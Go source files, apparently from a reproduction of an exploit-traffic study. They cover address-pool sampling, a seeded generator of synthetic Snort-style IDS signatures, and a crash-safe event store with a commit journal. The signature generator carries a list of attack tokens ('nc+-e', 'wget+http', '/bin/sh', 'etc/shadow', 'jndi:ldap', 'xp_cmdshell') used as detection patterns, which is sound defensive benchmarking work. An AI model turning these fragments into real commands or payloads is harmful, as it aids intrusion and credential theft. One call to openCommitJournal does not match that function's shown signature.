			base := p.prefixes[i].Addr().As4()
			return netip.AddrFrom4(u32be(be32(base) + uint32(n)))
		}
		n -= uint64(size)
	}
	base := p.prefixes[0].Addr().As4()
	return netip.AddrFrom4(base)
}

// Contains reports whether addr falls inside the pool's prefixes.
func (p *Pool) Contains(addr netip.Addr) bool {
	for _, pf := range p.prefixes {
		if pf.Contains(addr) {
			return true
		}
	}
	return false
}

func be32(b [4]byte) uint32 {
	return uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
}

func u32be(v uint32) [4]byte {
	return [4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)}
}

// Sources is a fixed scanner source population. The paper observed exploit
// traffic from only 3.6 k of the 15 M IPs that contacted the telescope;
// campaigns draw their sources from a small dedicated population while the
// background noise uses a much larger one.
type Sources struct {
	addrs []netip.Addr
	rng   *rand.Rand
}

// NewSources draws n distinct source addresses from pool.
func NewSources(seed int64, pool *Pool, n int) *Sources {
	s := &Sources{rng: rand.New(rand.NewSource(seed))}
	seen := map[netip.Addr]bool{}
	for len(s.addrs) < n {
		a := pool.Next()
		if seen[a] {
			continue
		}
		seen[a] = true
		s.addrs = append(s.addrs, a)
	}
	return s
}

// Pick returns a pseudorandom member of the population.
func (s *Sources) Pick() netip.Addr {
	return s.addrs[s.rng.Intn(len(s.addrs))]
}

// Len returns the population size.
func (s *Sources) Len() int { return len(s.addrs) }

// Addrs returns the underlying addresses (not a copy; treat as read-only).
func (s *Sources) Addrs() []netip.Addr { return s.addrs }

// CampaignTimes samples event timestamps for one exploit campaign.
//
// The first event is pinned exactly at first (Appendix E gives the measured
// first-attack time per CVE). The remaining n−1 events follow the paper's
// observed shape: a burst that decays roughly exponentially after the
// campaign starts (Figure 5c "rough exponential distribution") plus a heavy
// sustained tail stretching to the end of the study (Figure 4 "sustained
// traffic for months or years"). BurstWeight controls the mixture.
type CampaignTimes struct {
	// First is the exact first-event time.
	First time.Time
	// BurstStart anchors the burst component. Zero means First. Campaigns
	// whose first observation predates public disclosure anchor the burst
	// at disclosure instead: the paper's pre-publication traffic is
	// sporadic, with the spike following the announcement (Figure 5c).
	BurstStart time.Time
	// End is the end of the collection window.
	End time.Time
	// BurstMean is the exponential decay mean for burst events. Zero means
	// the default of 15 days.
	BurstMean time.Duration
	// BurstWeight in [0,1] is the share of events in the burst component.
	// Zero means the default of 0.25 (the tail dominates: the paper's
	// event rate rises over time as the CVE population accumulates).
	BurstWeight float64
	// TailPower shapes the sustained tail: offsets are span·U^(1/TailPower)
	// for uniform U. 1 (the default) is a uniform tail; 2 gives linearly
	// increasing density, matching the paper's rising event rate over time
	// (Figure 3) driven by legacy/botnet scanning of old CVEs.
	TailPower float64
}

func (c CampaignTimes) withDefaults() CampaignTimes {
	if c.BurstMean == 0 {
		c.BurstMean = 15 * 24 * time.Hour
	}
	if c.BurstWeight == 0 {
		c.BurstWeight = 0.25
	}
	if c.TailPower == 0 {
		c.TailPower = 1
	}
	return c
}

// Sample returns n event times in ascending order, the first exactly at
// c.First. The rng must be dedicated to this campaign for reproducibility.
// It is a thin wrapper over Stream (see stream.go), so the materialized and
// streaming paths share one generator: the burst component samples the
// truncated exponential exactly through its inverse CDF (no retry loop) and
// the output needs no final sort.
func (c CampaignTimes) Sample(rng *rand.Rand, n int) []time.Time {
	if n <= 0 {
		return nil
	}
	st := c.Stream(rng, n)
	out := make([]time.Time, 0, n)
	for {
		t, ok := st.Next()
		if !ok {
			return out
		}
		out = append(out, t)
	}
}

// PoissonTimes samples event times from a homogeneous Poisson process with
// the given mean inter-arrival over [start, end]. Used for background
// radiation (credential stuffing, generic crawling) that the IDS must not
// attribute to any CVE.
func PoissonTimes(rng *rand.Rand, start, end time.Time, meanGap time.Duration) []time.Time {
	if meanGap <= 0 || !start.Before(end) {
		return nil
	}
	var out []time.Time
	t := start
	for {
		gap := time.Duration(rng.ExpFloat64() * float64(meanGap))
		if gap <= 0 {
			gap = time.Nanosecond
		}
		t = t.Add(gap)
		if !t.Before(end) {
			return out
		}
		out = append(out, t)
	}
}
