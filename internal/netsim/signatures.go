package netsim

import (
	"fmt"
	"io"
	"math/rand"
	"strings"
	"time"
)

// SignatureCorpusConfig shapes a synthetic Talos-scale ruleset. The study's
// real feed is >48k signatures whose fast patterns share heavy common
// prefixes (URI stems, shellcode sleds, protocol verbs); the generator
// reproduces that shape so automaton builds and scans are stressed the way
// the real corpus stresses them, while staying fully seeded.
type SignatureCorpusConfig struct {
	// Seed drives every random choice; equal configs write equal bytes.
	Seed int64
	// N is the number of rules. Zero means 48000.
	N int
	// BaseSID is the first SID. Zero means 3000000 (clear of the study set).
	BaseSID int
	// Start and End bound the publication window. Zero means the study's
	// two-year collection window.
	Start, End time.Time
}

func (c SignatureCorpusConfig) withDefaults() SignatureCorpusConfig {
	if c.N == 0 {
		c.N = 48000
	}
	if c.BaseSID == 0 {
		c.BaseSID = 3000000
	}
	if c.Start.IsZero() {
		c.Start = time.Date(2021, 7, 1, 0, 0, 0, 0, time.UTC)
	}
	if c.End.IsZero() {
		c.End = time.Date(2023, 7, 1, 0, 0, 0, 0, time.UTC)
	}
	return c
}

// uriStems and verbs seed the shared-prefix structure: thousands of rules
// hang off a few dozen stems, which is what makes a naive trie cache-hostile
// at this scale.
var uriStems = []string{
	"/cgi-bin/", "/admin/", "/api/v1/", "/api/v2/", "/wp-content/plugins/",
	"/wp-admin/", "/manager/html/", "/solr/", "/struts/", "/console/",
	"/owa/auth/", "/vpn/", "/remote/", "/boaform/", "/shell", "/setup.cgi",
	"/HNAP1/", "/tmUnblock.cgi", "/jenkins/", "/actuator/",
}

var payloadTokens = []string{
	"cmd=", "exec=", "wget+http", "chmod+777", "/bin/sh", "passwd",
	"SELECT+", "UNION+ALL", "eval(", "base64_decode", "powershell",
	"jndi:ldap", "xp_cmdshell", "etc/shadow", "nc+-e", "curl+-s",
}

// WriteSignatureCorpus writes cfg.N synthetic rules in the dated-ruleset
// format (a publication comment before each rule). Roughly 5% of the rules
// are marked never-during-study, a few percent are deliberate duplicate SIDs
// at a higher rev (exercising feed dedup), and every rule carries a content
// usable as a fast pattern.
func WriteSignatureCorpus(w io.Writer, cfg SignatureCorpusConfig) error {
	cfg = cfg.withDefaults()
	rng := rand.New(rand.NewSource(cfg.Seed))
	bw := &corpusWriter{w: w}
	span := cfg.End.Sub(cfg.Start)
	dupRev := make(map[int]int)
	for i := 0; i < cfg.N; i++ {
		sid := cfg.BaseSID + i
		rev := 1 + rng.Intn(3)
		if rng.Intn(40) == 0 && i > 0 {
			// Duplicate SID at a higher rev: feeds carry these, and the
			// registry's dedup must resolve them order-independently. Each
			// re-release of a SID bumps rev past any prior release so the
			// corpus never manufactures a same-rev conflict.
			sid = cfg.BaseSID + rng.Intn(i)
			rev = 4 + 3*dupRev[sid]
			dupRev[sid]++
		}
		pub := "never-during-study"
		if rng.Intn(20) != 0 {
			pub = cfg.Start.Add(time.Duration(rng.Int63n(int64(span)))).Format(time.RFC3339)
		}
		bw.printf("# published: %s\n", pub)
		bw.printf("alert tcp $EXTERNAL_NET any -> $HOME_NET %s (msg:\"SYNTH exploit attempt %d\"; %ssid:%d; rev:%d;)\n",
			synthPorts(rng), sid, synthBody(rng, sid), sid, rev)
		if bw.err != nil {
			return bw.err
		}
	}
	return bw.err
}

// SignatureCorpus renders the corpus to memory; ~6 MB at the default 48k.
func SignatureCorpus(cfg SignatureCorpusConfig) []byte {
	var sb strings.Builder
	if err := WriteSignatureCorpus(&sb, cfg); err != nil {
		// strings.Builder never errors; corpus generation has no other
		// failure mode.
		panic(err)
	}
	return []byte(sb.String())
}

type corpusWriter struct {
	w   io.Writer
	err error
}

func (c *corpusWriter) printf(format string, args ...any) {
	if c.err != nil {
		return
	}
	_, c.err = fmt.Fprintf(c.w, format, args...)
}

func synthPorts(rng *rand.Rand) string {
	if rng.Intn(2) == 0 {
		return "any"
	}
	return fmt.Sprint(1 + rng.Intn(65535))
}

// synthBody emits the detection options: one or two contents (the first is
// the fast pattern), drawn from shared stems plus a unique suffix so the
// automaton sees realistic prefix sharing without degenerate duplicates.
func synthBody(rng *rand.Rand, sid int) string {
	var b strings.Builder
	switch rng.Intn(5) {
	case 0, 1: // URI rule
		fmt.Fprintf(&b, "content:\"%s%s%x\"; http_uri; nocase; ",
			uriStems[rng.Intn(len(uriStems))], suffix(rng), sid&0xfff)
	case 2: // binary rule, pipe-hex pattern
		b.WriteString("content:\"|")
		n := 4 + rng.Intn(8)
		for i := 0; i < n; i++ {
			if i > 0 {
				b.WriteByte(' ')
			}
			fmt.Fprintf(&b, "%02x", rng.Intn(256))
		}
		b.WriteString("|\"; ")
		if rng.Intn(2) == 0 {
			fmt.Fprintf(&b, "depth:%d; ", 16+rng.Intn(240))
		}
	default: // payload-token rule
		fmt.Fprintf(&b, "content:\"%s%s\"; ", payloadTokens[rng.Intn(len(payloadTokens))], suffix(rng))
		if rng.Intn(3) == 0 {
			fmt.Fprintf(&b, "content:\"%s\"; distance:0; within:%d; ",
				payloadTokens[rng.Intn(len(payloadTokens))], 64+rng.Intn(512))
		}
	}
	if rng.Intn(3) == 0 {
		fmt.Fprintf(&b, "reference:cve,%d-%d; ", 2019+rng.Intn(5), 1000+rng.Intn(40000))
	}
	b.WriteString("flow:to_server; ")
	return b.String()
}

const suffixAlphabet = "abcdefghijklmnopqrstuvwxyz0123456789_-."

func suffix(rng *rand.Rand) string {
	n := 3 + rng.Intn(10)
	var b strings.Builder
	for i := 0; i < n; i++ {
		b.WriteByte(suffixAlphabet[rng.Intn(len(suffixAlphabet))])
	}
	return b.String()
}
