package eventstore

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"

	"repro/internal/fault"
)

// The commit journal is what turns the store's per-shard fsyncs into one
// atomic durability point. Each Commit appends a single record naming the
// byte size every shard log had when its contents were forced to disk, plus
// an opaque caller payload (the fleet coordinator stores its per-sensor
// watermarks there, so "these events are durable" and "these batches are
// applied" become one record that is either wholly on disk or wholly absent).
//
// On open, the last intact record is the recovery contract: anything a shard
// file holds beyond its committed size is an uncommitted tail — appended,
// maybe even flushed by the page cache, but never promised durable — and is
// truncated away. Without that truncation a crash between append and commit
// could leave events in the store that the commit meta does not cover, and a
// redelivering sensor would apply them twice.
//
// File layout: 8-byte magic, then AppendFrame records. Record payload:
//
//	u32 shardCount | shardCount x u64 committed size | u32 metaLen | meta
//
// The journal compacts to its newest record once it grows past a threshold,
// the same tmp-write + fsync + rename dance the watermark journal uses.

var commitMagic = [8]byte{'E', 'V', 'C', 'M', 'T', 0x00, 0x01, '\n'}

const (
	commitLogName = "COMMITS.log"
	// commitCompactAt triggers a rewrite once the journal grows past this
	// size. Only the newest record matters, so compaction keeps exactly one.
	commitCompactAt = 1 << 20
)

// commitRecord is one journalled durability point.
type commitRecord struct {
	sizes []int64
	meta  []byte
}

type commitJournal struct {
	fs   fault.FS
	f    fault.File
	path string
	size int64
	last *commitRecord // newest recovered or appended record, nil if none
	bad  error         // set when a failed append could not be rolled back
}

// openCommitJournal opens (creating if needed) the journal in dir and
// recovers the newest intact record, truncating any torn tail.
func openCommitJournal(fs fault.FS, dir string) (*commitJournal, error) {
	path := filepath.Join(dir, commitLogName)
	f, err := fs.OpenFile(path, os.O_CREATE|os.O_RDWR, 0o644)
	if err != nil {
		return nil, err
	}
	raw, err := fs.ReadFile(path)
	if err != nil {
		f.Close()
		return nil, err
	}
	j := &commitJournal{fs: fs, f: f, path: path}
	switch {
	case len(raw) < len(commitMagic) && bytes.Equal(raw, commitMagic[:len(raw)]):
		// Empty, or a strict prefix of the magic: a crash tore the file's
		// creation before the header fully reached disk. Nothing else can
		// ever have been written, so reinitialize instead of refusing to
		// open (which would wedge every restart until manual cleanup).
		if _, err := f.Write(commitMagic[:]); err != nil {
			f.Close()
			return nil, err
		}
		if err := f.Truncate(int64(len(commitMagic))); err != nil {
			f.Close()
			return nil, err
		}
		j.size = int64(len(commitMagic))
	case len(raw) < len(commitMagic) || [8]byte(raw[:8]) != commitMagic:
		f.Close()
		return nil, fmt.Errorf("eventstore: %s is not a commit journal", path)
	default:
		good, _, err := scanFrames(raw[len(commitMagic):], func(payload []byte) error {
			rec, err := decodeCommitRecord(payload)
			if err != nil {
				return err
			}
			j.last = rec
			return nil
		})
		if err != nil {
			f.Close()
			return nil, fmt.Errorf("eventstore: %s: %w", path, err)
		}
		j.size = int64(len(commitMagic) + good)
		if j.size < int64(len(raw)) {
			if err := f.Truncate(j.size); err != nil {
				f.Close()
				return nil, err
			}
		}
	}
	if _, err := f.Seek(j.size, 0); err != nil {
		f.Close()
		return nil, err
	}
	return j, nil
}

func encodeCommitRecord(sizes []int64, meta []byte) []byte {
	buf := binary.LittleEndian.AppendUint32(nil, uint32(len(sizes)))
	for _, n := range sizes {
		buf = binary.LittleEndian.AppendUint64(buf, uint64(n))
	}
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(meta)))
	return append(buf, meta...)
}

func decodeCommitRecord(b []byte) (*commitRecord, error) {
	if len(b) < 4 {
		return nil, fmt.Errorf("eventstore: commit record truncated")
	}
	n := int(binary.LittleEndian.Uint32(b))
	b = b[4:]
	if n <= 0 || n > 1<<16 || len(b) < n*8+4 {
		return nil, fmt.Errorf("eventstore: commit record declares %d shards in %d bytes", n, len(b))
	}
	rec := &commitRecord{sizes: make([]int64, n)}
	for i := 0; i < n; i++ {
		rec.sizes[i] = int64(binary.LittleEndian.Uint64(b))
		b = b[8:]
	}
	metaLen := int(binary.LittleEndian.Uint32(b))
	b = b[4:]
	if len(b) != metaLen {
		return nil, fmt.Errorf("eventstore: commit record meta is %d bytes, declared %d", len(b), metaLen)
	}
	rec.meta = append([]byte(nil), b...)
	return rec, nil
}

// append writes and fsyncs one record, making it the recovery point.
func (j *commitJournal) append(sizes []int64, meta []byte) error {
	if j.bad != nil {
		return j.bad
	}
	rec := &commitRecord{sizes: append([]int64(nil), sizes...), meta: append([]byte(nil), meta...)}
	frame := appendFrame(nil, encodeCommitRecord(rec.sizes, rec.meta))
	// rollback restores the journal to its last good boundary after a failed
	// append. Without it, a torn record write leaves garbage mid-file: the
	// NEXT commit's record lands after the garbage and reports success, but
	// recovery's frame scan stops at the tear and falls back to a stale
	// record — truncating shards below sizes that later commits promised
	// durable. If even the rollback fails, the journal is poisoned: no
	// further commit may extend a chain whose tail is unknown.
	rollback := func(cause error) error {
		if terr := j.f.Truncate(j.size); terr != nil {
			j.bad = fmt.Errorf("eventstore: commit journal poisoned: rollback of failed append: %w", terr)
		} else if _, serr := j.f.Seek(j.size, 0); serr != nil {
			j.bad = fmt.Errorf("eventstore: commit journal poisoned: seek after failed append: %w", serr)
		}
		return cause
	}
	if _, err := j.f.Write(frame); err != nil {
		return rollback(fmt.Errorf("eventstore: appending commit record: %w", err))
	}
	// The record is the durability promise for everything the shard fsyncs
	// just covered — it must hit the disk, not the page cache, before the
	// caller acts on it (acks a sensor, advances a checkpoint). On failure
	// the record may be partially durable; drop it from the chain so the
	// next append never writes beyond a potential tear.
	if err := j.f.Sync(); err != nil {
		return rollback(fmt.Errorf("eventstore: syncing commit journal: %w", err))
	}
	j.size += int64(len(frame))
	j.last = rec
	if j.size >= commitCompactAt {
		return j.compact()
	}
	return nil
}

// compact rewrites the journal as its single newest record. Every failure
// path closes the tmp handle and removes the tmp file, so a full disk never
// leaks descriptors or strands journal tmp files.
func (j *commitJournal) compact() error {
	buf := append([]byte(nil), commitMagic[:]...)
	buf = appendFrame(buf, encodeCommitRecord(j.last.sizes, j.last.meta))
	tmp := j.path + ".tmp"
	if err := j.fs.WriteFile(tmp, buf, 0o644); err != nil {
		j.fs.Remove(tmp)
		return err
	}
	f, err := j.fs.OpenFile(tmp, os.O_RDWR, 0o644)
	if err != nil {
		j.fs.Remove(tmp)
		return err
	}
	abort := func(err error) error {
		f.Close()
		j.fs.Remove(tmp)
		return err
	}
	// The rewrite replaces a record already promised durable; it must be on
	// disk before it replaces the journal.
	if err := f.Sync(); err != nil {
		return abort(err)
	}
	if _, err := f.Seek(int64(len(buf)), 0); err != nil {
		return abort(err)
	}
	if err := j.fs.Rename(tmp, j.path); err != nil {
		return abort(err)
	}
	old := j.f
	j.f = f
	j.size = int64(len(buf))
	return old.Close()
}

func (j *commitJournal) Close() error {
	return j.f.Close()
}
