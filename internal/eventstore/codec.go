package eventstore

import (
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"math"
	"net/netip"
	"time"

	"repro/internal/ids"
	"repro/internal/packet"
)

// On-disk format. Each shard file is:
//
//	8-byte magic "EVLOG\x00\x01\n"
//	repeated records: u32 payload length | u32 CRC-32 (IEEE) of payload | payload
//
// Everything is little-endian. The length prefix plus CRC makes the tail
// self-describing: on open, the store replays records until the first
// short, oversized, or corrupt one and truncates the file there — a torn
// append from a crash costs at most the torn record, never the log.
//
// A payload encodes one ids.Event:
//
//	i64 sec, u32 nsec            session start (Time)
//	u8 addrLen, addr bytes, u16 port   source endpoint
//	u8 addrLen, addr bytes, u16 port   destination endpoint
//	u32 SID
//	i64 sec, u32 nsec            rule publication time
//	u16 len, bytes               CVE
//	u16 len, bytes               Msg
//	u32 Bytes
//	u8 flags                     bit 0: Ambiguous
//
// Timestamps are (seconds, nanoseconds) rather than UnixNano so the full
// time.Time range survives — the study ruleset uses a year-2090 sentinel
// for never-published rules, and zero times must round-trip too.

var fileMagic = [8]byte{'E', 'V', 'L', 'O', 'G', 0x00, 0x01, '\n'}

const (
	recordFrameLen = 8 // u32 length + u32 crc
	// maxRecordLen bounds a single record payload; anything larger in a
	// length prefix is treated as trailing garbage. Msg and CVE are u16-
	// length strings, so valid payloads are far below this.
	maxRecordLen = 1 << 20
)

var crcTable = crc32.MakeTable(crc32.IEEE)

// appendEvent appends ev's payload encoding to buf.
func appendEvent(buf []byte, ev *ids.Event) []byte {
	buf = appendTime(buf, ev.Time)
	buf = appendEndpoint(buf, ev.Src)
	buf = appendEndpoint(buf, ev.Dst)
	buf = binary.LittleEndian.AppendUint32(buf, uint32(ev.SID))
	buf = appendTime(buf, ev.Published)
	buf = appendString16(buf, ev.CVE)
	buf = appendString16(buf, ev.Msg)
	buf = binary.LittleEndian.AppendUint32(buf, uint32(ev.Bytes))
	var flags byte
	if ev.Ambiguous {
		flags |= 1
	}
	return append(buf, flags)
}

func appendTime(buf []byte, t time.Time) []byte {
	buf = binary.LittleEndian.AppendUint64(buf, uint64(t.Unix()))
	buf = binary.LittleEndian.AppendUint32(buf, uint32(t.Nanosecond()))
	return buf
}

func appendEndpoint(buf []byte, e packet.Endpoint) []byte {
	addr := e.Addr.AsSlice() // nil for the zero Addr
	buf = append(buf, byte(len(addr)))
	buf = append(buf, addr...)
	buf = binary.LittleEndian.AppendUint16(buf, e.Port)
	return buf
}

func appendString16(buf []byte, s string) []byte {
	if len(s) > math.MaxUint16 {
		s = s[:math.MaxUint16]
	}
	buf = binary.LittleEndian.AppendUint16(buf, uint16(len(s)))
	return append(buf, s...)
}

// decodeEvent decodes one payload. It returns an error (never panics) on
// any malformed input, since payloads come off disk.
func decodeEvent(b []byte) (ids.Event, error) {
	d := decoder{b: b}
	ev := decodeEventFields(&d)
	if d.err != nil {
		return ids.Event{}, d.err
	}
	if len(d.b) != 0 {
		return ids.Event{}, fmt.Errorf("eventstore: %d stray bytes after event", len(d.b))
	}
	return ev, nil
}

// decodeEventFields consumes one event's fields from d, leaving any
// remaining bytes for composite payloads (the amendment log embeds an event
// before its own fields).
func decodeEventFields(d *decoder) ids.Event {
	var ev ids.Event
	ev.Time = d.time()
	ev.Src = d.endpoint()
	ev.Dst = d.endpoint()
	ev.SID = int(d.u32())
	ev.Published = d.time()
	ev.CVE = d.string16()
	ev.Msg = d.string16()
	ev.Bytes = int(d.u32())
	ev.Ambiguous = d.u8()&1 != 0
	return ev
}

type decoder struct {
	b   []byte
	err error
}

func (d *decoder) take(n int) []byte {
	if d.err != nil {
		return nil
	}
	if len(d.b) < n {
		d.err = fmt.Errorf("eventstore: event payload truncated (%d of %d bytes)", len(d.b), n)
		return nil
	}
	out := d.b[:n]
	d.b = d.b[n:]
	return out
}

func (d *decoder) u8() byte {
	b := d.take(1)
	if b == nil {
		return 0
	}
	return b[0]
}

func (d *decoder) u16() uint16 {
	b := d.take(2)
	if b == nil {
		return 0
	}
	return binary.LittleEndian.Uint16(b)
}

func (d *decoder) u32() uint32 {
	b := d.take(4)
	if b == nil {
		return 0
	}
	return binary.LittleEndian.Uint32(b)
}

func (d *decoder) u64() uint64 {
	b := d.take(8)
	if b == nil {
		return 0
	}
	return binary.LittleEndian.Uint64(b)
}

func (d *decoder) time() time.Time {
	b := d.take(12)
	if b == nil {
		return time.Time{}
	}
	sec := int64(binary.LittleEndian.Uint64(b[0:8]))
	nsec := binary.LittleEndian.Uint32(b[8:12])
	return time.Unix(sec, int64(nsec)).UTC()
}

func (d *decoder) endpoint() packet.Endpoint {
	lb := d.take(1)
	if lb == nil {
		return packet.Endpoint{}
	}
	n := int(lb[0])
	var ep packet.Endpoint
	if n > 0 {
		ab := d.take(n)
		if ab == nil {
			return packet.Endpoint{}
		}
		addr, ok := netip.AddrFromSlice(ab)
		if !ok {
			d.err = fmt.Errorf("eventstore: bad address length %d", n)
			return packet.Endpoint{}
		}
		ep.Addr = addr
	}
	ep.Port = d.u16()
	return ep
}

func (d *decoder) string16() string {
	n := int(d.u16())
	b := d.take(n)
	if b == nil {
		return ""
	}
	return string(b)
}

// EncodeEvent appends ev's binary payload encoding to buf. The encoding is
// the store's on-disk record payload; the fleet wire protocol reuses it so a
// sensor's batches and the coordinator's log speak one format.
func EncodeEvent(buf []byte, ev *ids.Event) []byte { return appendEvent(buf, ev) }

// DecodeEvent decodes one EncodeEvent payload. It returns an error (never
// panics) on malformed input.
func DecodeEvent(payload []byte) (ids.Event, error) { return decodeEvent(payload) }

// AppendFrame appends a length+CRC framed record to buf — the store's
// self-describing record framing, exported for other framed logs (the fleet
// spool, watermark journal, and wire protocol) to share.
func AppendFrame(buf, payload []byte) []byte { return appendFrame(buf, payload) }

// MaxRecordLen is the largest frame payload ScanFrames accepts; anything
// beyond it is treated as corruption. Writers that recover their logs via
// ScanFrames must keep each AppendFrame payload at or below this bound, or
// their own valid frames read back as trailing garbage.
const MaxRecordLen = maxRecordLen

// ScanFrames walks AppendFrame records in b, calling fn for each intact
// payload. It returns the byte offset of the first incomplete or corrupt
// frame — the truncation point for crash recovery — and whether the whole
// buffer was clean. fn errors abort the scan.
func ScanFrames(b []byte, fn func(payload []byte) error) (good int, clean bool, err error) {
	return scanFrames(b, fn)
}

// appendFrame appends a length+CRC framed record to buf.
func appendFrame(buf, payload []byte) []byte {
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(payload)))
	buf = binary.LittleEndian.AppendUint32(buf, crc32.Checksum(payload, crcTable))
	return append(buf, payload...)
}

// scanFrames walks framed records in b, calling fn for each intact payload.
// It returns the byte offset of the first incomplete or corrupt frame —
// the truncation point for crash recovery — and whether the whole buffer
// was clean.
func scanFrames(b []byte, fn func(payload []byte) error) (good int, clean bool, err error) {
	off := 0
	for {
		if len(b)-off < recordFrameLen {
			return off, len(b) == off, nil
		}
		length := binary.LittleEndian.Uint32(b[off : off+4])
		sum := binary.LittleEndian.Uint32(b[off+4 : off+8])
		if length > maxRecordLen || len(b)-off-recordFrameLen < int(length) {
			return off, false, nil
		}
		payload := b[off+recordFrameLen : off+recordFrameLen+int(length)]
		if crc32.Checksum(payload, crcTable) != sum {
			return off, false, nil
		}
		if err := fn(payload); err != nil {
			return off, false, err
		}
		off += recordFrameLen + int(length)
	}
}
