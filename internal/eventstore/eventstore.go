// Package eventstore is the daemon's incremental event log: a sharded,
// append-only binary store of IDS exploit events (ids.Event) that survives
// crashes and serves consistent point-in-time snapshots while appends
// continue.
//
// Design:
//
//   - Events are routed to a shard by their CVE (falling back to SID), so
//     one CVE's history lives in one shard file and per-CVE queries touch a
//     single log.
//   - Each shard file is length-prefixed, CRC-checked records behind a
//     magic header. Opening a store replays every shard and truncates
//     trailing garbage — a torn append costs the torn record, nothing else.
//   - Readers never block writers and vice versa: each shard publishes its
//     event slice through an atomic pointer, and appends extend the slice
//     before republishing, so a reader's view is an immutable prefix.
//   - Every append bumps a store-wide generation. Snapshot() materializes
//     (and caches, keyed by generation) a merged, time-ordered view —
//     downstream analyses and the HTTP layer key their own caches off the
//     same generation, so nothing is recomputed until new data lands.
//   - Durability is group-committed: appends land in shard files (and in
//     readers' views) immediately, but only Commit/Sync makes them crash
//     durable — it fsyncs just the shards dirtied since the last commit,
//     then journals the committed shard sizes (plus an opaque caller meta
//     payload) in one fsynced record. On open, anything a shard holds
//     beyond its committed size is truncated: a crash between append and
//     commit can never leave half-promised events behind. Callers that
//     coalesce many appends into one Commit pay one fsync per dirty shard
//     plus one journal fsync for the whole group, not per batch.
package eventstore

import (
	"bytes"
	"fmt"
	"hash/fnv"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/ids"
)

// Options tunes a store.
type Options struct {
	// Shards is the number of shard files. Zero means 4. The count is
	// sticky: it is recorded on first open and reused (a mismatch is an
	// error, since routing depends on it).
	Shards int
	// SyncEvery forces a commit after every n appended batches. Zero
	// disables periodic commits (Close still commits); crash-safety then
	// means "no corruption", not "no loss of the last moments".
	SyncEvery int
}

func (o Options) withDefaults() Options {
	if o.Shards == 0 {
		o.Shards = 4
	}
	return o
}

// Store is an on-disk event log open for appending and querying.
type Store struct {
	dir    string
	opts   Options
	shards []*shard
	gen    atomic.Uint64

	appended atomic.Uint64 // batches since last sync

	// appendMu lets Commit take a consistent batch-aligned cut of shard
	// sizes: appends hold it shared for the whole batch, the committer holds
	// it exclusively for microseconds while reading sizes. No I/O ever
	// happens under the exclusive hold, so appends stream on while the
	// committer fsyncs.
	appendMu sync.RWMutex

	// commitMu serializes Commit/Sync (the fleet committer and the local
	// ingest pipeline may both be durability callers on one store) and
	// guards cj and meta.
	commitMu sync.Mutex
	cj       *commitJournal
	meta     []byte // opaque payload of the newest commit record

	snapMu sync.Mutex
	snap   atomic.Pointer[Snapshot]

	closeMu sync.Mutex
	closed  bool
}

type shard struct {
	mu         sync.Mutex
	f          *os.File
	size       int64
	synced     int64 // bytes covered by the last commit (guarded by Store.commitMu)
	events     atomic.Pointer[[]ids.Event]
	lastAppend atomic.Int64 // UnixNano of the most recent append; 0 = none since open
}

// Open opens (creating if needed) the store in dir and recovers every
// shard. Recovery trusts the commit journal: a shard's contents beyond its
// last committed size are an uncommitted tail (appended but never promised
// durable) and are truncated, as is any torn frame. A store without a
// commit journal (pre-group-commit, or one that never committed) adopts
// every intact record, matching the old recovery contract.
func Open(dir string, opts Options) (*Store, error) {
	opts = opts.withDefaults()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, err
	}
	if err := checkShardCount(dir, &opts); err != nil {
		return nil, err
	}
	cj, err := openCommitJournal(dir)
	if err != nil {
		return nil, err
	}
	if cj.last != nil && len(cj.last.sizes) != opts.Shards {
		cj.Close()
		return nil, fmt.Errorf("eventstore: commit journal in %s covers %d shards, store has %d",
			dir, len(cj.last.sizes), opts.Shards)
	}
	s := &Store{dir: dir, opts: opts, cj: cj}
	if cj.last != nil {
		s.meta = append([]byte(nil), cj.last.meta...)
	}
	for i := 0; i < opts.Shards; i++ {
		committed := int64(-1) // no journal record: adopt every intact record
		if cj.last != nil {
			committed = cj.last.sizes[i]
		}
		sh, n, err := openShard(filepath.Join(dir, shardName(i)), committed)
		if err != nil {
			for _, prev := range s.shards {
				prev.f.Close()
			}
			cj.Close()
			return nil, err
		}
		s.shards = append(s.shards, sh)
		if n > 0 {
			s.gen.Add(1) // recovered data is generation 1+
		}
	}
	return s, nil
}

func shardName(i int) string { return fmt.Sprintf("events-%02d.log", i) }

// checkShardCount pins the shard count in a marker file so reopening with a
// different Options.Shards (which would misroute CVEs) fails loudly.
func checkShardCount(dir string, opts *Options) error {
	marker := filepath.Join(dir, "SHARDS")
	b, err := os.ReadFile(marker)
	if os.IsNotExist(err) {
		return os.WriteFile(marker, []byte(strconv.Itoa(opts.Shards)+"\n"), 0o644)
	}
	if err != nil {
		return err
	}
	n, convErr := strconv.Atoi(string(trimNL(b)))
	if convErr != nil || n <= 0 {
		return fmt.Errorf("eventstore: corrupt shard marker %q in %s", b, dir)
	}
	if n != opts.Shards {
		return fmt.Errorf("eventstore: store %s has %d shards, opened with %d", dir, n, opts.Shards)
	}
	return nil
}

func trimNL(b []byte) []byte {
	for len(b) > 0 && (b[len(b)-1] == '\n' || b[len(b)-1] == '\r') {
		b = b[:len(b)-1]
	}
	return b
}

// openShard reads one shard file, truncates trailing garbage, and leaves
// the handle positioned for appends. It returns the recovered event count.
// committed, when >= 0, is the shard's size in the last commit record: it
// bounds what recovery trusts — bytes beyond it are an uncommitted tail and
// are dropped even when their frames are intact, so a crash between append
// and commit never resurrects events the commit meta does not cover. Bytes
// below it recover frame by frame as before (a tear inside the committed
// region means storage failure; recovery salvages the intact prefix rather
// than refusing to open).
func openShard(path string, committed int64) (*shard, int, error) {
	f, err := os.OpenFile(path, os.O_CREATE|os.O_RDWR, 0o644)
	if err != nil {
		return nil, 0, err
	}
	raw, err := os.ReadFile(path)
	if err != nil {
		f.Close()
		return nil, 0, err
	}
	var events []ids.Event
	var size int64
	switch {
	case len(raw) == 0:
		if _, err := f.Write(fileMagic[:]); err != nil {
			f.Close()
			return nil, 0, err
		}
		size = int64(len(fileMagic))
	case len(raw) < len(fileMagic) || [8]byte(raw[:8]) != fileMagic:
		f.Close()
		return nil, 0, fmt.Errorf("eventstore: %s is not an event log", path)
	default:
